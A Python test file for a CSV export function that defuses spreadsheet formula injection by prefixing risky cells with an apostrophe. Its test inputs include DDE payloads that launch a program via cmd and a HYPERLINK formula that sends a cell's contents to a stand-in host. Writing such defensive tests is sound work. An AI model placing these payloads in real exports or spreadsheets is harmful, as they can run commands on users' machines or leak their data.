"""Texts that a spreadsheet would run are defused, and come back as they were printed."""

import csv
import re
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kg.csv_export import DEFUSED, write_csv

TRIGGERS = "=+-@\t\r\n＝＋－＠"


def exported(texts: list[str | None], path: Path) -> list[str]:
    write_csv(pa.table({"n": range(len(texts)), "text": pa.array(texts, pa.string())}), path)
    with path.open(encoding="utf-8-sig", newline="") as file:
        return [row["text"] for row in csv.DictReader(file)]


def printed(text: str) -> str:
    return text[1:] if re.match(DEFUSED, text) else text


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|'/C calc'!A0",
        '=HYPERLINK("http://x.invalid/?"&A1,"点击")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
    ],
)
def test_a_text_that_would_run_has_an_apostrophe(text: str, tmp_path: Path) -> None:
    assert exported([text], tmp_path / "a.csv") == [f"'{text}"]


def test_numbers_and_marks_are_as_they_were_printed(tmp_path: Path) -> None:
    texts = ["-5", "+3.25", "≥95%", "-", "", "'quoted'", "a=b"]
    assert exported([*texts, None], tmp_path / "a.csv") == [*texts, ""]


def test_repeated_texts_are_defused_as_well(tmp_path: Path) -> None:
    column = pa.array(["=1+1", "甲", "=1+1"]).dictionary_encode()
    write_csv(pa.table({"text": column}), tmp_path / "a.csv")
    assert (tmp_path / "a.csv").read_bytes().decode("utf-8-sig").count("'=1+1") == 2


@settings(
    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.lists(st.text(st.sampled_from(f"{TRIGGERS}'\"，,1a甲.")), min_size=1, max_size=20))
def test_no_text_runs_and_every_text_comes_back(tmp_path: Path, texts: list[str]) -> None:
    found = exported(texts, tmp_path / "a.csv")
    assert [printed(text) for text in found] == texts
    for text in found:
        runs = len(text) > 1 and text[0] in TRIGGERS
        assert not runs or re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", text)
